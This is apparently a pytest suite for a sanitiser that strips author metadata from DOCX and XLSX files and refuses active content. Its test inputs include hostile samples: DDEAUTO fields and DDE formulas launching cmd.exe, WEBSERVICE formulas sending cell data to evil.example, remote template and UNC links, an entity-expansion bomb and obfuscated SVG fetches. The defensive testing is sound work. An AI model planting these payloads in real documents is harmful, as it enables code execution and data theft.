"""DOCX and XLSX: names, paths and numbers of revisions go, what fetches or runs is refused, the rest stays."""

from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from tests.evidence_files import DOCUMENT, OLE, RELATIONS, WORD, docx, package, picture, relations, xlsx
from tests.exchange.cleaning import CANARY, everything, refused, taken, unpacked
from tests.exchange.cleaning.office import (
    CORE,
    EXTENDED,
    SHEET,
    document,
    settings,
    workbook,
    workbook_of,
)

RELS = "word/_rels/document.xml.rels"


def test_a_document_tells_nothing_of_its_author() -> None:
    """A canary in each place where Word writes a name, a path or a number of a revision."""
    content = document()
    assert everything(content).count(CANARY.encode()) >= 20
    found = taken("report.docx", content)
    assert CANARY.encode() not in everything(found.content)
    parts = unpacked(found.content)
    text = parts["word/document.xml"].decode()
    assert "Visible words" in text
    assert "A comment" in parts["word/comments.xml"].decode()
    assert "rsid" not in everything(found.content).decode("utf-8", "replace")
    assert not [name for name in parts if "custom" in name.lower() or "people" in name or "thumbnail" in name]


def test_the_state_keeps_title_and_institution() -> None:
    found = everything(taken("report.docx", document(), of_state=True).content).decode("utf-8", "replace")
    assert "Ministry of Justice" in found
    assert "Report of the ministry" in found
    assert CANARY not in found
    independent = everything(taken("report.docx", document()).content).decode("utf-8", "replace")
    assert "Ministry of Justice" not in independent
    assert "Report of the ministry" not in independent


def test_a_workbook_tells_nothing_of_its_author() -> None:
    content = workbook()
    assert everything(content).count(CANARY.encode()) >= 6
    found = taken("table.xlsx", content)
    assert CANARY.encode() not in everything(found.content)
    book = load_workbook(BytesIO(found.content))
    assert book["Data"]["A1"].value == "Чуй"
    assert not [name for name in unpacked(found.content) if "printerSettings" in name]
    assert b"r:id" not in unpacked(found.content)["xl/worksheets/sheet1.xml"]


def test_notes_of_a_workbook_stay_without_their_author() -> None:
    file, book = BytesIO(), Workbook()
    book.active["A1"] = "Чуй"
    book.active["A1"].comment = Comment("Counted twice", CANARY)
    book.save(file)
    found = taken("table.xlsx", file.getvalue())
    assert CANARY.encode() not in everything(found.content)
    assert b"Counted twice" in everything(found.content)
    load_workbook(BytesIO(found.content))


def test_the_same_file_gives_the_same_bytes_and_a_cleaned_one_stays() -> None:
    once = taken("report.docx", document()).content
    assert once == taken("report.docx", document()).content
    assert taken("report.docx", once).content == once


def test_a_picture_inside_loses_place_and_camera() -> None:
    photo = picture(comment=CANARY.encode())
    content = docx(**{RELS: relations(("image", "media/a.jpeg")), "word/media/a.jpeg": photo})
    assert CANARY.encode() in everything(content)
    found = taken("report.docx", content)
    assert CANARY.encode() not in everything(found.content)
    assert unpacked(found.content)["word/media/a.jpeg"].startswith(b"\xff\xd8\xff")


def test_the_table_behind_a_chart_is_cleaned_too() -> None:
    types = '<Override PartName="/word/embeddings/a.xlsx" ContentType="{}"/>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    content = docx(
        more=types.format(kind),
        **{RELS: relations(("package", "embeddings/a.xlsx")), "word/embeddings/a.xlsx": workbook()},
    )
    found = taken("report.docx", content)
    assert CANARY.encode() not in everything(found.content)
    assert load_workbook(BytesIO(unpacked(found.content)["word/embeddings/a.xlsx"]))["Data"]["A1"].value


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("mailMergeSource", "https://evil.example/a.dotm"),
        ("mailMergeSource", r"\\evil.example\share\a.dotm"),
        ("mailMergeSource", "file://evil.example/share/a.dotm"),
        ("mailMergeSource", "file:////evil.example/share/a.dotm"),
        ("mailMergeSource", r"file:///\\evil.example\share\a.dotm"),
        ("mailMergeSource", "%5c%5cevil.example/a.dotm"),
        ("mailMergeSource", " \t//evil.example/a.dotm"),
        ("image", "https://evil.example/a.png"),
        ("image", "file:///C:/a.png"),
        ("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"),
        ("frame", "https://evil.example/"),
        ("subDocument", "https://evil.example/a.docx"),
        ("hyperlink", r"\\evil.example\share"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
        ("externalLinkPath", "https://evil.example/a.xlsx"),
        ("externalLinkPath", "//evil.example/share/a.xlsx"),
    ],
)
def test_what_leads_elsewhere_is_refused_and_named(kind: str, target: str) -> None:
    said = refused("report.docx", docx(**{RELS: relations((kind, target, "External"))}))
    assert "loads something from elsewhere" in said
    assert RELS in said
    assert "Remove that link" in said


@pytest.mark.parametrize("mode", ["external", "EXTERNAL"])
def test_the_mode_of_a_relationship_is_read_as_programs_read_it(mode: str) -> None:
    refused("report.docx", docx(**{RELS: relations(("image", "https://evil.example/a.png", mode))}))


def test_links_that_a_person_follows_stay_and_paths_of_the_own_disk_go() -> None:
    content = docx(
        **{
            RELS: relations(
                ("hyperlink", "https://stat.gov.kg/?a=1&amp;b=2", "External"),
                ("hyperlink", "mailto:office@stat.kg", "External"),
                ("hyperlink", f"file:///C:/Users/{CANARY}/a.docx", "External"),
                ("attachedTemplate", f"file:///C:/Users/{CANARY}/Normal.dotm", "External"),
            )
        }
    )
    found = unpacked(taken("report.docx", content).content)[RELS].decode()
    assert "https://stat.gov.kg/?a=1&amp;b=2" in found
    assert "mailto:office@stat.kg" in found
    assert CANARY not in found
    assert "Normal.dotm" not in found
    assert 'Target="#"' in found


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        ("vbaProject", "word/media/a.jpeg"),
        ("VBAPROJECT", "word/theme.xml"),
        ("oleObject", "word/a.xml"),
        ("control", "word/a.xml"),
        ("aFChunk", "word/a.xml"),
        ("extensibility", "word/a.xml"),
    ],
)
def test_what_runs_is_refused_under_any_name(kind: str, part: str) -> None:
    said = refused("report.docx", docx(**{RELS: relations((kind, f"/{part}")), part: "<a/>"}))
    assert "macros" in said
    assert part in said


@pytest.mark.parametrize(
    "types",
    [
        '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
        '<Default Extension="jpg" ContentType="APPLICATION/VND.MS-OFFICE.VBAPROJECT"/>',
        '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
    ],
)
def test_the_type_of_a_macro_is_found_however_it_is_written(types: str) -> None:
    assert "macros" in refused("report.docx", docx(more=types, **{"word/a.xml": "<a/>"}))


def test_entities_in_the_types_hide_nothing() -> None:
    content = package({**DOCUMENT_PARTS, "[Content_Types].xml": f"<!DOCTYPE Types [{ENTITY}]><Types/>"})
    said = refused("report.docx", content)
    assert "hides what it holds" in said
    assert "[Content_Types].xml" in said


ENTITY = '<!ENTITY m "vbaProject">'
DOCUMENT_PARTS = unpacked(docx())


def test_no_part_grows_by_entities() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    assert "word/document.xml" in refused("report.docx", docx(**{"word/document.xml": bomb}))


def test_a_program_is_refused_whatever_it_is_called() -> None:
    for program in (OLE, b"MZ\x90\0", b"\x7fELF"):
        content = docx(**{RELS: relations(("image", "media/a.jpeg")), "word/media/a.jpeg": program})
        assert "word/media/a.jpeg" in refused("report.docx", content)


def test_two_parts_of_one_name_are_refused() -> None:
    said = refused("report.docx", docx(**{"word/Document.xml": DOCUMENT}))
    assert "hides what it holds" in said


@pytest.mark.parametrize(
    "fields",
    [
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;"/>',
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/a.png&quot;"/>',
        "{begin}{text: DDE}{text:AUTO c:}{end}",
        "{begin}{text:IF }{begin}{text:INCLUDETEXT x}{end}{end}",
        "{begin}{text:dde x}{separate}{end}",
    ],
)
def test_fields_that_fetch_or_start_something_are_refused(fields: str) -> None:
    for kind in ("begin", "separate", "end"):
        fields = fields.replace(f"{{{kind}}}", f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>')
    fields = fields.replace("{text:", "<w:r><w:instrText>").replace("}", "</w:instrText></w:r>")
    said = refused("report.docx", docx(**{"word/document.xml": DOCUMENT.replace("<w:p>", f"<w:p>{fields}")}))
    assert "formula or field" in said


def test_harmless_fields_stay() -> None:
    field = '<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText>TOC \\o</w:instrText></w:r>'
    content = docx(**{"word/document.xml": DOCUMENT.replace("<w:p>", f"<w:p>{field}")})
    assert b"TOC \\o" in unpacked(taken("report.docx", content).content)["word/document.xml"]


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("https://evil.example/"&amp;A1)',
        '_xlfn.WEBSERVICE("x")',
        '_xlfn.IMAGE("https://evil.example/a.png")',
        "cmd|'/c calc'!A0",
        'RTD("a",,"b")',
        'DDE("soffice","a","b")',
        "'https://evil.example/[a.xlsx]S'!A1",
    ],
)
def test_formulas_that_fetch_or_start_something_are_refused(formula: str) -> None:
    said = refused("table.xlsx", workbook_of(SHEET.format(cells=f"<c><f>{formula}</f></c>")))
    assert "formula" in said
    assert "xl/worksheets/sheet1.xml" in said


@pytest.mark.parametrize(
    "formula", ["SUM(A1:A3)", 'HYPERLINK("https://stat.kg")', '"cmd|x"&amp;A1', "[1]S!A1"]
)
def test_other_formulas_stay(formula: str) -> None:
    found = taken("table.xlsx", workbook_of(SHEET.format(cells=f"<c><f>{formula}</f></c>")))
    assert formula.encode() in unpacked(found.content)["xl/worksheets/sheet1.xml"]


def test_a_dde_link_of_a_workbook_is_refused() -> None:
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    said = refused("table.xlsx", workbook_of(SHEET.format(cells=""), link=link))
    assert "ddeLink" in said


def test_a_drawing_that_fetches_is_refused() -> None:
    types = '<Override PartName="/word/media/a.svg" ContentType="image/svg+xml"/>'
    for drawing in (
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example";</style></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="URL(https://evil.example/a.svg#b)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@IMPORT "https://evil.example";</style></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@im\\port "https://evil.example";</style></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><style>a{fill:u\\72l(https://evil.example)}</style></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="image-set(&quot;//evil.example&quot;)"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    ):
        parts = {RELS: relations(("image", "media/a.svg")), "word/media/a.svg": drawing}
        assert "word/media/a.svg" in refused("report.docx", docx(more=types, **parts))


def test_a_signed_document_is_refused() -> None:
    origin = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
    roots = relations(("officeDocument", "word/document.xml"), ("x", "_xmlsignatures/origin.sigs"))
    roots = roots.replace(f"{RELATIONS}/x", origin)
    assert "has a digital signature" in refused("report.docx", docx(**{"_rels/.rels": roots}))


def test_parts_to_which_nothing_leads_go() -> None:
    found = taken("report.docx", docx(**{"word/left.xml": f"<a>{CANARY}</a>", "notes/a.bin": CANARY}))
    assert CANARY.encode() not in everything(found.content)


def test_an_old_ending_gives_way_to_the_real_one() -> None:
    assert taken("Отчёт.doc", docx()).name == "Отчёт.docx"
    assert taken("table.XLS", xlsx()).name == "table.xlsx"
    for name, content in (
        ("a.doc", xlsx()),
        ("a.xls", docx()),
        ("a.doc", b"plain words"),
        ("a.docm", docx()),
    ):
        refused(name, content)


def test_prefixes_that_attributes_name_stay() -> None:
    """Word calls a file damaged where `mc:Ignorable` names a prefix that is not declared."""
    mark = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    text = DOCUMENT.replace(
        "<w:document ", f'<w:document xmlns:mc="{mark}" xmlns:w14="n" mc:Ignorable="w14" '
    )
    text = text.replace("<w:t>", '<w:t xml:space="preserve">').replace("Чуй", "a &lt; b &amp; c&#13;")
    found = unpacked(taken("report.docx", docx(**{"word/document.xml": text})).content)["word/document.xml"]
    for kept in ('xmlns:w14="n"', 'mc:Ignorable="w14"', 'xml:space="preserve"', "a &lt; b &amp; c&#13;"):
        assert kept in found.decode()


def test_settings_lose_what_they_tell() -> None:
    content = docx(
        more='<Override PartName="/word/settings.xml" ContentType="application/xml"/>',
        **{
            RELS: relations(("settings", "settings.xml")),
            "word/settings.xml": settings(),
            "x": CORE + EXTENDED,
        },
    )
    found = unpacked(taken("report.docx", content).content)["word/settings.xml"].decode()
    assert CANARY not in found
    assert "zoom" in found
    assert WORD in found
